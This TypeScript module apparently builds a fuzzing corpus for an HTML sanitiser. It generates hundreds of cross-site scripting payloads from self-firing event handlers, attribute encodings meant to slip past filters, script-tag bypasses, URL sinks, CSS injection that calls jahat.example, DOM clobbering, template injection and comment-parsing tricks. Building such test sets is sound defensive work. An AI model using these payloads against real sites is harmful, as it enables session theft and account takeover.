/** Hand-written HTML that runs a call by itself or when touched, sorted by how; each seed takes the call to run. */

/** HTML made around one JavaScript call. */
export type Seed = (call: string) => string;

const entities = (text: string, form: (code: number) => string): string =>
  [...text].map((char) => form(char.codePointAt(0) ?? 0)).join('');

/** An element up to its handler, the handler's name, and what closes it. The browser fires these without a hand. */
const SELF_FIRING: readonly (readonly [open: string, handler: string, close: string])[] = [
  ['<img src=x:x', 'onerror', '>'],
  ['<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="', 'onload', '>'],
  ['<image src=x:x', 'onerror', '>'],
  ['<svg', 'onload', '>'],
  ['<svg><image href=x:x', 'onerror', '/></svg>'],
  ['<svg><set attributeName=x dur=1s', 'onbegin', '/></svg>'],
  ['<svg><animate attributeName=x dur=1s', 'onbegin', '></animate></svg>'],
  ['<svg><animate attributeName=x dur=1ms', 'onend', '></animate></svg>'],
  ['<body', 'onload', '>'],
  ['<input autofocus', 'onfocus', '>'],
  ['<input type=image src=x:x', 'onerror', '>'],
  ['<textarea autofocus', 'onfocus', '></textarea>'],
  ['<select autofocus', 'onfocus', '><option>a</select>'],
  ['<button autofocus', 'onfocus', '>a</button>'],
  ['<div tabindex=0 autofocus', 'onfocus', '>a</div>'],
  ['<div contenteditable autofocus', 'onfocusin', '>a</div>'],
  ['<details open', 'ontoggle', '><summary>a</summary>b</details>'],
  ['<video src=x:x', 'onerror', '></video>'],
  ['<video><source src=x:x', 'onerror', '></video>'],
  ['<audio src=x:x', 'onerror', '></audio>'],
  ['<video src=x:x', 'onloadstart', '></video>'],
  ['<iframe', 'onload', '></iframe>'],
  ['<object data=x:x', 'onerror', '></object>'],
  ['<link rel=stylesheet href=x:x', 'onerror', '>'],
  ['<link rel=stylesheet href=data:text/css,', 'onload', '>'],
  ['<style', 'onload', '>a{}</style>'],
  ['<script src=x:x', 'onerror', '></script>'],
  ['<marquee loop=1 width=0', 'onstart', '>a</marquee>'],
  [
    '<b style="animation:a 1ms" ',
    'onanimationstart',
    '>a</b><style>@keyframes a{from{top:0}}</style>',
  ],
  [
    '<b style="display:block;content-visibility:auto"',
    'oncontentvisibilityautostatechange',
    '>a</b>',
  ],
  ['<p', 'onclick', '>a</p>'],
  ['<a href=#a', 'onpointerover', '>a</a>'],
  ['<div popover id=a', 'onbeforetoggle', '>a</div><button popovertarget=a>b</button>'],
];

/** Ways to write one attribute so that a filter reads past it and a browser does not. */
const ATTRIBUTE_STYLES: readonly ((name: string, call: string) => string)[] = [
  (name, call) => ` ${name}=${call}`,
  (name, call) => ` ${name}="${call}"`,
  (name, call) => ` ${name}='${call}'`,
  (name, call) => `/${name}=${call}//`,
  (name, call) => `\n${name}\n=\n"${call}"`,
  (name, call) => `\t${name.toUpperCase()}\f=\t'${call}'`,
  (name, call) => ` ${name.replace(/n/, 'N')}="${entities(call, (code) => `&#${String(code)};`)}"`,
  (name, call) => ` ${name}="${entities(call, (code) => `&#x${code.toString(16)};`)}"`,
  (name, call) => ` ${name}=${entities(call, (code) => `&#0000${String(code)}`)}`,
  (name, call) => ` ${name}="${call}" ${name}="0"`,
  (name, call) => ` title="<p>" ${name}="${call}"`,
  (name, call) => ` title='"><' "${name}" ${name}="${call}"`,
  (name, call) => ` ${name}=\`\${${call}}\``,
  (name, call) => ` ${name}="javascript:${call}"`,
  (name, call) => ` ${name}="/*&quot;*/window['eval']('${call}')"`,
];

/** Handlers: every element above with every way to write the attribute. */
export const handlers: readonly Seed[] = SELF_FIRING.flatMap(([open, name, close]) =>
  ATTRIBUTE_STYLES.map(
    (style): Seed =>
      (call) =>
        open + style(name, call) + close,
  ),
);

/** Script elements. */
export const scripts: readonly Seed[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt>${call}</sCrIpT>`,
  (call) => `<script\n>${call}</script\t>`,
  (call) => `<script/x>${call}</script x>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<script type="text/javascript;version=1">${call}</script>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<script src="data:;base64,${Buffer.from(call).toString('base64')}"></script>`,
  (call) => `<script>${call}`,
  (call) => `<script>${call}<!--`,
  (call) => `<script><!--\n${call}\n--></script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<<script>${call}//<</script>`,
  (call) => `<script>/*</script><script>*/${call}</script>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `"><script>${call}</script>`,
  (call) => `'/*";*/--></textarea></title></style><script>${call}</script>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:text/javascript,${call}" /></svg>`,
  (call) => `<svg><script>${entities(call, (code) => `&#${String(code)};`)}</script></svg>`,
  (call) => `<math><script>${call}</script></math>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe srcdoc="&lt;img src=x:x onerror=parent.${call}&gt;"></iframe>`,
  (call) => `<template shadowrootmode=open><script>${call}</script></template>`,
  (call) => `<noscript><script>${call}</script></noscript>`,
  (call) => `<link rel=import href="data:text/html,<script>${call}</script>">`,
];

/** Places in HTML where an address stands, some of which a browser follows without a hand. */
export const addressPlaces: readonly Seed[] = [
  (url) => `<a href="${url}">a</a>`,
  (url) => `<a href='${url}' target=_self>a</a>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<form action="${url}"><button>a</button></form>`,
  (url) => `<form><button formaction="${url}">a</button></form>`,
  (url) => `<input type=submit formaction="${url}">`,
  (url) => `<svg><a href="${url}"><text y=9>a</text></a></svg>`,
  (url) => `<svg><a xlink:href="${url}"><text y=9>a</text></a></svg>`,
  (url) => `<svg><a><animate attributeName=href values="${url}" /><text y=9>a</text></a></svg>`,
  (url) => `<svg><use href="${url}" /></svg>`,
  (url) => `<math href="${url}"><mi>a</mi></math>`,
  (url) => `<map name=m><area href="${url}" shape=default></map><img usemap=#m src=x:x>`,
  (url) => `<base href="${url}//"><a href=a>a</a>`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<link rel=stylesheet href="${url}">`,
  (url) => `<img src="${url}" srcset="${url} 2x">`,
  (url) => `<video poster="${url}"></video>`,
  (url) => `<body background="${url}">`,
  (url) => `<blockquote cite="${url}">a</blockquote>`,
  (url) => `<a href="https://koran.example/" ping="${url}">a</a>`,
];

/** Styles that once ran code, or that run a handler, fetch or cover the page. */
export const styles: readonly Seed[] = [
  (call) => `<p style="width:expression(${call})">a</p>`,
  (call) => `<p style="background:url(javascript:${call})">a</p>`,
  (call) => `<p style="background:url('https://jahat.example/?${call}')">a</p>`,
  (call) => `<p style="-moz-binding:url(data:text/xml,${call})">a</p>`,
  (call) => `<p style="behavior:url(#a)" onreadystatechange="${call}">a</p>`,
  (call) => `<p style="position:fixed;inset:0;z-index:9" onclick="${call}">a</p>`,
  (call) => `<p style="wi\\64 th:ex/**/pression(${call})">a</p>`,
  (call) => `<style>@import "javascript:${call}";</style>`,
  (call) => `<style>@import url(https://jahat.example/${call});</style>`,
  (call) => `<style>p{background:url("javascript:${call}")}</style><p>a</p>`,
  (call) => `<style>@keyframes k{}*{animation:k}</style><p onanimationend="${call}">a</p>`,
  (call) =>
    `<style>p{transition:top 1ms}p:hover{top:1px}</style><p ontransitionend="${call}">a</p>`,
  (call) => `<style><!--</style><script>${call}//--></script>`,
  (call) => `<font style="x:y" color="javascript:${call}">a</font>`,
  (call) => `<div style="--komentar-a:url(javascript:${call})" part=a slot=b>a</div>`,
  (call) => `<table background="javascript:${call}"><td>a</table>`,
];

/** Property names that a form's child can hide from code which walks the tree. */
const CLOBBERED =
  'attributes childNodes firstChild nextSibling parentNode nodeName nodeType innerHTML remove setAttribute ownerDocument'.split(
    ' ',
  );

/** Elements that answer in place of a property, with a payload inside them. */
export const clobbering: readonly Seed[] = CLOBBERED.flatMap((name): Seed[] => [
  (call) => `<form onclick="${call}"><input name=${name}><img src=x:x onerror="${call}"></form>`,
  (call) => `<form id=${name} tabindex=0 autofocus onfocus="${call}"><output name=${name}></form>`,
  (call) => `<img name=${name} src=x:x onerror="${call}"><iframe name=${name}></iframe>`,
  (call) => `<a id=${name}></a><a id=${name} name=href href="javascript:${call}">a</a>`,
]);

/** Delimiters of template languages that might meet the text on its way. */
export const templates: readonly Seed[] = [
  (call) => `{{${call}}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{{{${call}}}}`,
  (call) => `\${${call}}`,
  (call) => `#{${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `<%- ${call} -%>`,
  (call) => `{%raw%}${call}{%endraw%}`,
  (call) => `[[${call}]]`,
  (call) => `<p ng-init="${call}" v-html="${call}" x-init="${call}" @click="${call}">a</p>`,
  (call) => `<p data-bind="text:${call}" hx-on="load:${call}">a</p>`,
  (call) => `<template><img src=x:x onerror="${call}"></template>`,
  (call) => `<template><template><script>${call}</script></template></template>`,
  (call) => `<slot name=a onslotchange="${call}"><img src=x:x onerror="${call}"></slot>`,
  (call) => `<!--?lit$1$--><img src=x:x onerror="${call}">`,
  (call) => `<?php echo '${call}' ?>`,
];

const CUSTOM = [
  'x-a',
  'komentar-section',
  'annotation-xml',
  'font-face',
  'a-\u00e9',
  'x-a.b',
  'center is=x-a',
  'p is="x-a"',
];
const CUSTOM_TRAPS = [
  'autofocus tabindex=0 onfocus',
  'onclick',
  'style=animation:a onanimationstart',
  'part=a onload',
];

/** Custom and customised elements, some of them this product's own. */
export const customElements: readonly Seed[] = CUSTOM.flatMap((tag) =>
  CUSTOM_TRAPS.map(
    (trap): Seed =>
      (call) =>
        `<${tag} ${trap}="${call}"><img src=x:x onerror="${call}">a</${tag}>`,
  ),
);

/** Comments, doctypes, CDATA and processing instructions that end earlier or later than they seem to. */
export const comments: readonly Seed[] = [
  ['<!-->', '-->'],
  ['<!--->', '-->'],
  ['<!---!>', '-->'],
  ['<!--a--!>', '<!-- -->'],
  ['<!-- --', '-->'],
  ['<!-- <!-- -->', '-->'],
  ['<!a>', '<!-- -->'],
  ['<!--[if IE]>', '<![endif]-->'],
  ['<![CDATA[>', ']]>'],
  ['<svg><![CDATA[', ']]></svg>'],
  ['<svg><![CDATA[<]]>', '</svg>'],
  ['<?xml ?>', '?>'],
  ['<?', '?>'],
  ['<!doctype html [>', ']>'],
  ['</ a>', '</>'],
  ['<%', '%>'],
  ['<!ENTITY a "', '">'],
  ['<comment>', '</comment>'],
].map(
  ([open = '', close = '']): Seed =>
    (call) =>
      `${open}<img src=x:x onerror="${call}">${close}`,
);
